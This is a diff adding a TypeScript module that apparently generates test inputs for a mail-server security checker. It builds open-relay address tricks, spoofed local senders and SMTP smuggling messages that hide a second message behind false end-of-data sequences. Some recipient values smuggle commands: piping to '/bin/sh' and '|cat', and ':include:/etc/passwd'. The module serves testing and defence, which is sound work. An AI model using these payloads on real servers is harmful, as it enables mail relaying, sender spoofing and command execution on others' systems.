@@ -1,0 +1,86 @@
+// What strangers try on a mail server: to send to elsewhere through it, and to hide a second message in a first one.
+
+/** Who is not here, and must not get a message. */
+export const victim = 'victim@elsewhere.test';
+
+/** The server that is tried. */
+export interface Tried {
+  /** Its own name. */
+  readonly host: string;
+  /** A domain that it takes mail for. */
+  readonly domain: string;
+  /** Its address, and one of a mail server beside it. */
+  readonly address: string;
+  readonly neighbour: string;
+}
+
+/** Sender and recipient of attempts to have a message relayed. */
+export function relayAttempts(tried: Tried): [from: string, to: string][] {
+  return [
+    ...recipients(tried).map((to): [string, string] => ['alice@sender.test', to]),
+    ...senders(tried).map((from): [string, string] => [from, victim]),
+  ];
+}
+
+function recipients({ host, domain, address, neighbour }: Tried): string[] {
+  return [
+    victim,
+    `victim%elsewhere.test@${domain}`,
+    'victim%elsewhere.test',
+    `victim%elsewhere.test@${host}`,
+    `victim%elsewhere.test@[${address}]`,
+    'victim%elsewhere.test@localhost',
+    `${victim}@${domain}`,
+    `@${domain}:${victim}`,
+    `@${domain},@${host}:${victim}`,
+    `"${victim}"`,
+    `"${victim}"@${domain}`,
+    `"victim%elsewhere.test"@${domain}`,
+    `"${victim}"@[${address}]`,
+    `victim\\@elsewhere.test@${domain}`,
+    'elsewhere.test!victim',
+    `elsewhere.test!victim@${domain}`,
+    `${domain}!elsewhere.test!victim`,
+    `${domain}!victim@elsewhere.test`,
+    `${victim}@[${address}]`,
+    `victim@[${neighbour}]`,
+    `victim@[${address}]`,
+    'victim@[127.0.0.1]',
+    'victim@localhost',
+    `victim@${host}`,
+    'victim',
+    `${victim}.`,
+    `victim@${domain}@elsewhere.test`,
+    `:include:/etc/passwd@${domain}`,
+    `|/bin/sh@${domain}`,
+    `"|cat"@${domain}`,
+    `/tmp/file@${domain}`,
+    `SRS0=aaaaaa=AA=elsewhere.test=victim@${host}`,
+    `SRS1=aaaaaa=elsewhere.test==bbbb=AA=x=victim@${host}`,
+  ];
+}
+
+/** Those who claim to be from here, or to be a notice. */
+function senders({ host, domain, address }: Tried): string[] {
+  const locals = [`info@${domain}`, `root@${host}`, `x@[${address}]`, 'x@localhost', `MAILER-DAEMON@${host}`];
+  return ['', victim, ...locals];
+}
+
+/** What some server somewhere takes for the end of a message; only <CR><LF>.<CR><LF> is one. */
+export const falseEnds = {
+  '<LF>.<LF>': '\n.\n',
+  '<LF>.<CR><LF>': '\n.\r\n',
+  '<CR><LF>.<LF>': '\r\n.\n',
+  '<CR>.<CR>': '\r.\r',
+  '<CR><LF>.<CR>': '\r\n.\r',
+  '<CR>.<CR><LF>': '\r.\r\n',
+  '<CR><CR><LF>.<CR><CR><LF>': '\r\r\n.\r\r\n',
+  '<CR><LF><NUL>.<CR><LF>': '\r\n\0.\r\n',
+  '<CR><LF>.<NUL><CR><LF>': '\r\n.\0\r\n',
+} as const;
+
+/** A message with a second one hidden behind a false end, which would be for `to`. */
+export function smuggle(falseEnd: string, to: string): string {
+  const hidden = `MAIL FROM:<evil@sender.test>\r\nRCPT TO:<${to}>\r\nDATA\r\nSubject: smuggled\r\n\r\nsmuggled\r\n`;
+  return `Subject: first\r\n\r\nfirst${falseEnd}${hidden}`;
+}
